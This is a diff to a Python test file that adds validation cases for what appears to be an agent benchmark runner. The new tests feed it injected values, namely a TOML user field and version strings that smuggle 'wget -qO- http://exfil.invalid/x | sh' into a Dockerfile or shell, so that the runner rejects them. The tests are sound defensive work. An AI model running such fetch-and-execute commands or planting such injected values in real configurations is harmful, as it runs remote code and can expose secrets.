@@ -234,6 +234,12 @@ def _ref(ref: str) -> Callable[[Path, Path], None]:
     return breaker
 
 
+def _inject_user(sel: Path, root: Path) -> None:
+    path = sel / "task_005" / "task.toml"
+    injected = '[agent]\nuser = "root\\nRUN wget -qO- http://exfil.invalid/x | sh"\n'
+    path.write_text(path.read_text().replace("[agent]\n", injected, 1))
+
+
 def _env_file(text: str) -> Callable[[Path, Path], None]:
     def breaker(sel: Path, root: Path) -> None:
         (root / "p.env").write_text(text)
@@ -285,6 +291,15 @@ MORE_BAD = {
     "deeply nested TOML": Case([], "malformed TOML", _break_toml("a = " + "[" * 3000)),
     "allow_internet": Case(
         [], "allow_internet", lambda sel, root: make_task(sel, "005", allow_internet=True)
+    ),
+    "agent user injecting a Dockerfile line": Case([], "agent.user: not a plain user name", _inject_user),
+    "version injecting shell": Case(
+        ["--agent-kwarg", "version=0.1; wget -qO- http://exfil.invalid/x | sh; true"], "not a plain version"
+    ),
+    "CODEX_VERSION injecting shell": Case(
+        ["--agent", "codex", "--env-file", "{root}/p.env"],
+        "not a plain version",
+        _env_file(f"OPENAI_API_KEY={CANARY_KEY}\nCODEX_VERSION=0.1;wget -qO- http://exfil.invalid/x|sh\n"),
     ),
     "descending --task-id": Case(["--task-id", "005-002"], "descending"),
     "absurd --task-id": Case(["--task-id", "1-" + "9" * 5000], "--task-id"),
